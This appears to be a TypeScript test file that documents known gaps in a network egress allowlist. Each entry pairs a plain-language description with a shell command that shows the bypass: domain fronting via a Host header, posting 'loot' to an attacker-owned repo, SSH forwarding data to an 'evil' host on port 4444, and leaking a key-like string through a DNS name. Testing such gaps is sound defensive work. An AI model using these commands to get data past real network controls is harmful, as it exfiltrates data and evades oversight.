// SPDX-License-Identifier: Apache-2.0
// What stays possible by an open door, each beside the sentence that says so.
import { ORIGINS } from '../_internet/addresses.ts'
import { knownGap } from './_bypass.ts'

knownGap({
  happens: 'another site of a shared host is reached inside a connection that is passed through',
  said: 'Fronting.',
  script: `curl -sS -m 5 -H 'Host: other.test' https://web.test/title`,
  through: (arrival) => arrival['host'] === 'other.test' && arrival['sni'] === 'web.test',
})
knownGap({
  happens: 'data goes to anybody’s account on a host whose rule names no path',
  said: 'What an allowed host does with what it is given.',
  script: 'curl -sS -m 5 -d loot https://web.test/repos/attacker/loot/issues',
  through: (arrival) => arrival['uri'] === '/repos/attacker/loot/issues',
})
knownGap({
  happens: 'an SSH server that forwards carries a job on to where no rule lets it',
  said: 'A server that forwards.',
  allow: ['ssh.test:22'],
  script: `chmod 600 key; echo loot | timeout 5 ssh -i key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -W ${ORIGINS.evil}:4444 root@ssh.test`,
  through: (arrival) => arrival['address'] === ORIGINS.evil && arrival['port'] === 4444,
})
knownGap({
  happens: 'a connection to a made-up name below a wildcard tells that name to the domain’s name server',
  said: 'Wildcards carry the names below them.',
  allow: ['*.cdn.test:443'],
  script: 'curl -sS -m 5 https://akiasecretkey.cdn.test/title',
  through: (arrival) => arrival.kind === 'dns' && arrival['name'] === 'akiasecretkey.cdn.test',
})
